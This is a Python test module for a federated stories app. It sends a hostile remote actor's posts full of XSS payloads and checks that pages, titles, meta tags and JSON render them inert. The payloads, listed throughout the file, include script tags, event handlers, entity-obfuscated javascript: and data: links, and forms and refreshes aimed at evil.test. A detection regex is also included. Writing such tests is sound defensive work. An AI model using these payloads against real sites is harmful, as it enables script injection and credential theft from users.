"""Rendering: hostile HTML sent over the wire never runs, on any page, title, meta tag or JSON.

A hostile actor (display name, bio, profile URL, icon) replies to a.test's story and posts to
the network with every payload in content, summary, name, url and attachment URLs; each page
that shows them is fetched as a visitor or a moderator would, and each JSON we serve is read.
"""

from __future__ import annotations

import html
import re
from typing import Any
from urllib.parse import urlsplit

from sqlalchemy import select

from fediverse_stories.db.models import Actor, Comment, CommentPolicy, Role
from tests.adversarial.conftest import SHARED_INBOX, Target, add_user, carried_post, publish
from tests.support.instances import sign_in

PAYLOADS = [
    '<script>alert("s")</script>',
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="https://ok.test" onmouseover="alert(1)">hover</a>',
    '<a href="javascript:alert(1)">j</a>',
    '<a href="jav&#x61;script:alert(1)">j</a>',
    '<a href="&#106;&#97;vascript:alert(1)">j</a>',
    '<a href="java\tscript:alert(1)">j</a>',
    '<a href=" JaVaScRiPt:alert(1)">j</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<a href="vbscript:msgbox(1)">v</a>',
    '<iframe src="https://evil.test"></iframe>',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">s</p>',
    "<svg><script>alert(1)</script><animate onbegin=alert(1) /></svg>",
    '<form action="https://evil.test"><input name="password"></form>',
    '<base href="https://evil.test/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    "<object data=x></object><embed src=x>",
    '"><script>alert(9)</script>',
    "</title><script>alert(8)</script>",
]
ALL = " ".join(PAYLOADS)
DANGER = re.compile(
    r"<\s*(script|style|iframe|svg|math|object|embed|base|meta\s+http-equiv)\b"
    r"|<\s*form\s+action=\"https?://evil"
    r"|\son[a-z]+\s*="
    r"|(?:href|src|action|content)\s*=\s*[\"']?\s*(?:javascript|vbscript|data|jav&)"
    r"|\sstyle\s*=",
    re.IGNORECASE,
)
HOSTILE_ACTOR = {
    "name": 'Mal <script>alert("n")</script>"><img src=x onerror=alert(1)>',
    "summary": ALL,
    "url": "javascript:alert('profile')",
    "icon": {"type": "Image", "url": "javascript:alert('icon')"},
    "preferredUsername": "mal",
}


def assert_inert(text: str, where: str) -> None:
    found = DANGER.search(text)
    assert found is None, (where, text[max(0, found.start() - 120) : found.end() + 120])


def hostile_note(t: Target, in_reply_to: str | None, **extra: Any) -> dict[str, Any]:
    note: dict[str, Any] = t.evil.note(
        in_reply_to,
        f"<p>Reply {ALL}</p>",
        "mal",
        summary=f"CW {ALL}",
        name=f"Name {ALL}",
        url="javascript:alert('url')",
        attachment=[
            {"type": "Document", "url": "javascript:alert('att')", "name": ALL},
            {"type": "Image", "url": "data:text/html,<script>alert(1)</script>"},
            {"type": "Link", "href": "vbscript:msgbox(1)"},
        ],
        **extra,
    )
    return note


async def send(t: Target, activity: dict[str, Any]) -> None:
    response = await t.evil.post(t.client, SHARED_INBOX, activity, who="mal")
    assert response.status_code == 202, response.text
    await t.settle()


async def hostile_reply(t: Target, story_uri: str) -> dict[str, Any]:
    if "mal" not in t.evil.personas:
        t.evil.add("mal", **HOSTILE_ACTOR)
    note = hostile_note(t, story_uri)
    await send(t, t.evil.create(note, "mal"))
    return note


async def check_page(t: Target, path: str) -> str:
    page = await t.a.client.get(path)
    assert page.status_code == 200, (path, page.status_code)
    assert_inert(page.text, path)
    title = re.search(r"<title>(.*?)</title>", page.text, re.S)
    assert title is not None and "<" not in title.group(1), (path, title)
    for meta in re.findall(r"<meta [^>]*>", page.text):
        assert_inert(meta, path)
    for url in re.findall(r"(?:href|src|action)=\"([^\"]*)\"", page.text):
        plain = "".join(html.unescape(url).split()).lower()
        assert urlsplit(plain).scheme in ("", "http", "https"), (path, url)
        assert ":" not in plain.split("/")[0] or plain.startswith(("http:", "https:")), (path, url)
    return page.text


async def test_hostile_reply_is_inert_on_the_story_page(target: Target) -> None:
    await hostile_reply(target, target.story.uri or "")
    text = await check_page(target, f"/stories/{target.story.id}")
    assert "Reply" in text  # the comment is shown, defanged
    async with target.a.ctx.sessions() as session:
        stored = (await session.execute(select(Comment.content_html))).scalars().all()
    assert len(stored) == 1
    assert_inert(stored[0], "comments.content_html")


async def test_hostile_reply_is_inert_in_every_json_we_serve(target: Target) -> None:
    note = await hostile_reply(target, target.story.uri or "")
    async with target.a.ctx.sessions() as session:
        comment = (await session.execute(select(Comment))).scalar_one()
    accept = {"Accept": "application/activity+json"}
    for path in (
        f"/stories/{target.story.id}",
        f"/stories/{target.story.id}/replies?page=1",
        f"/stories/{target.story.id}/context?page=1",
        f"/stories/{target.story.id}/context",
        f"/comments/{comment.id}",
        "/users/amina/outbox?page=1",
        "/users/amina",
    ):
        document = await target.a.client.get(path, headers=accept)
        assert document.status_code in (200, 404), (path, document.status_code)
        assert_inert(document.text, path)
        assert "javascript:" not in document.text, path
    assert note["id"]


async def test_hostile_display_name_bio_and_profile_url_are_inert(target: Target) -> None:
    await hostile_reply(target, target.story.uri or "")
    async with target.a.ctx.sessions() as session:
        mal = (
            await session.execute(select(Actor).where(Actor.uri == target.evil.actor_id("mal")))
        ).scalar_one()
    assert "<" not in mal.display_name
    assert_inert(mal.summary or "", "actors.summary")
    assert mal.url is None and mal.icon_url is None  # javascript: URLs are not kept
    text = await check_page(target, f"/stories/{target.story.id}")
    assert "Mal alert" in text or "Mal &lt;script&gt;" in text or "Mal " in text


async def test_hostile_remote_post_is_inert_on_network_pages_titles_and_meta(
    target: Target,
) -> None:
    target.evil.add("mal", **HOSTILE_ACTOR)
    post = await carried_post(
        target,
        "mal",
        name=f"Title {ALL}",
        summary=f"Summary {ALL}",
        content=f"<p>Body</p>{ALL}",
        url="jav&#x61;script:alert('post')",
        tag=[{"type": "Hashtag", "name": '#"><script>alert(1)</script>'}],
    )
    for path in ("/network", f"/network/{post.id}"):
        text = await check_page(target, path)
        assert "Title" in text
    await hostile_reply(target, target.story.uri or "")  # and one more on the network thread


async def test_hostile_reply_held_for_moderation_is_inert_on_the_moderation_page(
    target: Target,
) -> None:
    moderated = await publish(target.a, "Moderated", comment_policy=CommentPolicy.MODERATED)
    await hostile_reply(target, moderated.uri or "")
    await add_user(target.a, "mod", Role.MODERATOR)
    await sign_in(target.a, "mod", "a-good-password")
    text = await check_page(target, "/admin/comments")
    assert "Reply" in text  # it is listed, defanged
    await target.a.client.post("/logout")


async def test_entity_obfuscated_schemes_never_become_links(target: Target) -> None:
    if "mal" not in target.evil.personas:
        target.evil.add("mal", **HOSTILE_ACTOR)
    tricks = [
        "jav&#x61;script:alert(1)",
        "jav&#97;script:alert(1)",
        "&#x6A;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "java&#x09;script:alert(1)",
        "java&Tab;script:alert(1)",
        "&#0000106avascript:alert(1)",
        "data&colon;text/html,x",
        "vbscript&#58;msgbox(1)",
        "  javascript:alert(1)",
    ]
    content = "".join(f'<p><a href="{trick}">x{i}</a></p>' for i, trick in enumerate(tricks))
    note = target.evil.note(target.story.uri, content, "mal")
    await send(target, target.evil.create(note, "mal"))
    text = await check_page(target, f"/stories/{target.story.id}")
    for i in range(len(tricks)):
        assert f"x{i}" in text  # the text stays; check_page proved no link is anything but http
